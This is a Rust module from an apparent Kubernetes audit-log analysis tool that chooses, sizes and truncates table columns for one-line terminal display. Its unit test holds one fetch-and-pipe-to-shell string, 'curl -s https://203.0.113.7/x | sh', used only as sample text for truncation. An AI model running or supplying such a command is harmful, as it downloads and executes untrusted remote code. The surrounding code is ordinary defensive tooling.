//! Which columns of an answer stand on a terminal when every row takes one line, how wide, and what their cells are cut to.
//!
//! An analyst scans an answer down its columns: who, what, from where, when. Rows that wrap, and cards, break that up; so a
//! row is one line, what explains it more than it identifies it makes room first, and what is too long is cut with `…`.

use super::Row;
use super::column::{Column, Kind, text_and_width};
use super::fit::{NAME_WIDTH_MAX, TEXT_WIDTH_MIN, Wish, widths};
use super::wrap::name_part_width_max;
use crate::visible::width;

/// Columns that make room for others, the first one first: they explain a row, or stand in it in other words.
const SPARE: [&str; 22] = [
    "sha256",
    "last_event",
    "decision_reason",
    "user_agent",
    "user_agents",
    "request_uri",
    "credential_id",
    "credential_ids",
    "forwarded_for",
    "cluster",
    "host",
    "decision",
    "stages",
    "level",
    "stored_version",
    "service_account",
    "handed_out",
    "status_code",
    "dry_run",
    "subresource",
    "rule",
    "impersonated_user",
];

/// Columns that say who did what to what, when and with what outcome: they stay as long as there is room. The first makes
/// room first.
const CORE: [&str; 9] =
    ["source_ip", "namespace", "audit_id", "resource", "verb", "outcome", "name", "user_name", "event_time"];

/// Characters of an audit id that tell the events of a case apart; commands take so many.
pub(crate) const ID_WIDTH: usize = 8;

/// The first of these make room before the last column goes that only this answer has.
const CORE_LESS: usize = 3;

/// Columns that only this answer has, and that stay as long as those of every answer.
const OWN_MAX: usize = 2;

/// A cell that is cut shows at least this much, or its column makes room for the others.
const CUT_WIDTH_MIN: usize = 10;

/// A name that is cut shows at least this much while there are columns that can make room.
const NAME_WIDTH_EASY: usize = 24;

/// Columns that tell what was counted: a count of what nobody can read is none, so numbers make room for them as for names.
const COUNTED: [&str; 1] = ["value"];

/// The beginning of a sentence tells as much as that; a shorter one says nothing.
const SENTENCE_WIDTH_MIN: usize = 36;

/// Columns that are never cut: half an address is another address, half a time no time.
const WHOLE: [&str; 6] = ["source_ip", "address", "outcome", "severity", "first_event", "last_event"];

/// How every service account is called; of one that is cut, this goes first.
const SERVICE_ACCOUNT: &str = "system:serviceaccount:";

/// A time of the day, `20:37:40.327`.
const TIME_OF_DAY_WIDTH: usize = 12;

/// A day, `2026-11-21`, and the space behind it.
const DAY_WIDTH: usize = 11;

/// How much of a cell is shown.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Part {
    /// As much as there is room for; of what is longer the beginning.
    Begin,
    /// As much as there is room for; of what is longer both ends, which tell names apart.
    Ends,
    /// The beginning of an audit id.
    Id,
    /// The time of the day: all rows are of one day, which the header names.
    TimeOfDay,
}

/// A column that is shown.
pub(crate) struct Choice {
    /// Its place among the columns of the result.
    pub(crate) index: usize,
    /// Its header.
    pub(crate) label: String,
    pub(crate) width: usize,
    pub(crate) part: Part,
}

/// Chooses among the columns `shown` for lines of `room` terminal columns. `is_whole` says that no row comes after these.
pub(crate) fn choose(columns: &[Column], shown: &[usize], rows: &[Row], room: usize, is_whole: bool) -> Vec<Choice> {
    let days = if is_whole { days(columns, shown, rows) } else { Vec::new() };
    let mut chosen: Vec<Asked> =
        shown.iter().map(|index| Asked::of(&columns[*index], *index, rows, is_whole)).collect();
    loop {
        let fitting = widths(&chosen.iter().map(Asked::wish).collect::<Vec<_>>(), room);
        let (has_spare, has_counts) =
            (chosen.iter().any(|asked| asked.is_spare), chosen.iter().any(|asked| asked.is_count));
        let all = |is: &dyn Fn(&Asked, usize) -> bool| {
            fitting.as_ref().is_some_and(|widths| chosen.iter().zip(widths).all(|(asked, width)| is(asked, *width)))
        };
        let (is_whole, is_readable) = (
            all(&|asked, width| !asked.is_text || width >= asked.widest),
            all(&|asked, width| asked.is_readable(width, if asked.is_counted { has_counts } else { has_spare })),
        );
        // The day goes first when it is the same in every row: nothing is lost with it.
        let day = |asked: &Asked| days.iter().find(|(at, _)| *at == asked.index && asked.part == Part::Begin);
        if let Some((asked, (_, day))) =
            chosen.iter_mut().find_map(|asked| day(asked).map(|day| (asked, day))).filter(|_| !is_whole)
        {
            asked.shorten_to_time_of_day(day);
            continue;
        }
        if let Some(widths) = fitting.filter(|_| is_readable || chosen.len() == 1) {
            let choice = |(asked, width): (&Asked, &usize)| Choice {
                index: asked.index,
                label: asked.label.clone(),
                width: *width,
                part: asked.part,
            };
            return chosen.iter().zip(&widths).map(choice).collect();
        }
        let at = |name: &&str| chosen.iter().position(|asked| columns[asked.index].name == **name);
        let spare = || SPARE.iter().find_map(at);
        // What only this answer has is what it is about: two such columns stay before those that every answer has.
        let is_own = |asked: &Asked| !CORE.contains(&columns[asked.index].name.as_str());
        let owns = chosen.iter().filter(|asked| is_own(asked)).count();
        let other = |most: usize| if owns > most { chosen.iter().rposition(is_own) } else { None };
        let next = spare()
            .or_else(|| other(OWN_MAX))
            .or_else(|| CORE[..CORE_LESS].iter().find_map(at))
            .or_else(|| other(0))
            .or_else(|| CORE.iter().find_map(at));
        match next.filter(|_| chosen.len() > 1) {
            Some(at) => drop(chosen.remove(at)),
            None => {
                let asked = &chosen[0];
                return vec![Choice {
                    index: asked.index,
                    label: asked.label.clone(),
                    width: room.max(1),
                    part: asked.part,
                }];
            }
        }
    }
}

/// What `text` is cut to.
pub(crate) fn cut(text: &str, part: Part, room: usize) -> String {
    let text = match part {
        Part::Id => text.get(..ID_WIDTH).unwrap_or(text),
        Part::TimeOfDay => text.get(DAY_WIDTH..).unwrap_or(text),
        Part::Begin | Part::Ends => text,
    };
    if width(text) <= room {
        return text.to_owned();
    }
    let room = room.saturating_sub(1);
    if let Some(account) = text.strip_prefix(SERVICE_ACCOUNT).filter(|_| part == Part::Ends) {
        // Its namespace and name tell it from others.
        return match width(account) <= room {
            true => format!("…{account}"),
            false => format!("…{}", cut(account, part, room)),
        };
    }
    let end = if part == Part::Ends { room / 2 } else { 0 };
    format!("{}…{}", begin_of(text, room - end), end_of(text, end))
}

/// As much of the beginning of `text` as fits into `room` terminal columns.
fn begin_of(text: &str, room: usize) -> &str {
    let ends = text.char_indices().map(|(at, character)| at + character.len_utf8());
    let fitting = ends.map(|end| &text[..end]).take_while(|begin| width(begin) <= room);
    fitting.last().unwrap_or_default()
}

/// As much of the end of `text` as fits into `room` terminal columns.
fn end_of(text: &str, room: usize) -> &str {
    let begins = text.char_indices().rev().map(|(at, _)| &text[at..]);
    begins.take_while(|end| width(end) <= room).last().unwrap_or_default()
}

/// A column with what it asks for.
struct Asked {
    index: usize,
    label: String,
    part: Part,
    is_text: bool,
    is_spare: bool,
    is_count: bool,
    is_counted: bool,
    widest: usize,
    cells: Vec<usize>,
    minimum: usize,
}

impl Asked {
    fn of(column: &Column, index: usize, rows: &[Row], is_whole: bool) -> Self {
        let part = match column.name.as_str() {
            "audit_id" => Part::Id,
            name if name.ends_with("user") || name.ends_with("name") || ["source", "file"].contains(&name) => {
                Part::Ends
            }
            _ => Part::Begin,
        };
        let mut cells: Vec<usize> = rows.iter().map(|row| text_and_width(row[index].as_ref()).1).collect();
        if part == Part::Id {
            cells.iter_mut().for_each(|cell| *cell = (*cell).min(ID_WIDTH));
        }
        let is_spare = SPARE.contains(&column.name.as_str());
        let widest = cells.iter().copied().max().unwrap_or(0);
        // Later rows may bring longer words, such as `deletecollection` after thousands of `get`.
        let is_text = column.kind == Kind::Text && part != Part::Id && !WHOLE.contains(&column.name.as_str());
        let reserve = if is_whole || !is_text { 0 } else { TEXT_WIDTH_MIN };
        let name_part = name_part_width_max(&column.label).min(NAME_WIDTH_MAX);
        let rigid = if is_text { widest.min(CUT_WIDTH_MIN) } else { widest };
        let minimum = rigid.max(name_part).max(reserve);
        let is_counted = COUNTED.contains(&column.name.as_str());
        let is_count = column.kind == Kind::Number;
        Self {
            index,
            label: column.label.clone(),
            part,
            is_text,
            is_spare,
            is_count,
            is_counted,
            widest,
            cells,
            minimum,
        }
    }

    fn wish(&self) -> Wish {
        let natural = self.widest.max(self.minimum).max(width(&self.label));
        Wish { natural, widest: self.widest, minimum: self.minimum, cells: self.cells.clone() }
    }

    /// Whether cells of `width` terminal columns say enough, while `others_can` make room.
    fn is_readable(&self, width: usize, others_can: bool) -> bool {
        let least = match self.part {
            _ if self.is_spare => SENTENCE_WIDTH_MIN,
            Part::Ends if others_can => NAME_WIDTH_EASY,
            Part::Begin if self.is_counted && others_can => NAME_WIDTH_EASY,
            _ => CUT_WIDTH_MIN,
        };
        !self.is_text || width >= self.widest.min(least)
    }

    fn shorten_to_time_of_day(&mut self, day: &str) {
        self.part = Part::TimeOfDay;
        // Of several times each keeps its name.
        self.label = match self.label.strip_suffix(" (UTC)") {
            Some("event_time") | None => format!("{day} (UTC)"),
            Some(name) => format!("{name} {day}"),
        };
        self.cells.iter_mut().for_each(|cell| *cell = (*cell).min(TIME_OF_DAY_WIDTH));
        self.widest = self.cells.iter().copied().max().unwrap_or(0);
        self.minimum = self.widest.max(DAY_WIDTH - 1);
    }
}

/// The columns of times that are all of one day, and the day.
fn days(columns: &[Column], shown: &[usize], rows: &[Row]) -> Vec<(usize, String)> {
    let times = shown.iter().filter(|index| columns[**index].kind == Kind::Time);
    let of_one_day = |index: &usize| {
        let mut days = rows.iter().flat_map(|row| &row[*index]).map(|cell| cell.text.get(..DAY_WIDTH));
        let day = days.next()??;
        // A date has no time of the day behind it.
        (day.ends_with(' ') && days.all(|other| other == Some(day))).then(|| (*index, day.trim_end().to_owned()))
    };
    times.filter_map(of_one_day).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_keep_both_ends_and_all_else_its_beginning() {
        assert_eq!(cut("system:kube-controller-manager", Part::Ends, 21), "system:kub…er-manager");
        assert_eq!(cut("system:serviceaccount:ci:deployer", Part::Ends, 21), "…ci:deployer");
        assert_eq!(cut("system:serviceaccount:kube-system:deployer", Part::Ends, 12), "…kube-…loyer");
        assert_eq!(cut("curl -s https://203.0.113.7/x | sh", Part::Begin, 10), "curl -s h…");
        assert_eq!(cut("8a68baa0-b034-41a3", Part::Id, 8), "8a68baa0");
        assert_eq!(cut("2026-11-21 20:37:40.327", Part::TimeOfDay, 12), "20:37:40.327");
        assert_eq!(cut("short", Part::Begin, 5), "short");
        assert_eq!(cut("日本語日本語", Part::Ends, 7), "日…本語".replace("本語", "語"));
        for room in 0..12 {
            for part in [Part::Begin, Part::Ends] {
                assert!(width(&cut("日本語 and ae\u{301}b", part, room)) <= room.max(1), "{room}");
            }
        }
    }
}
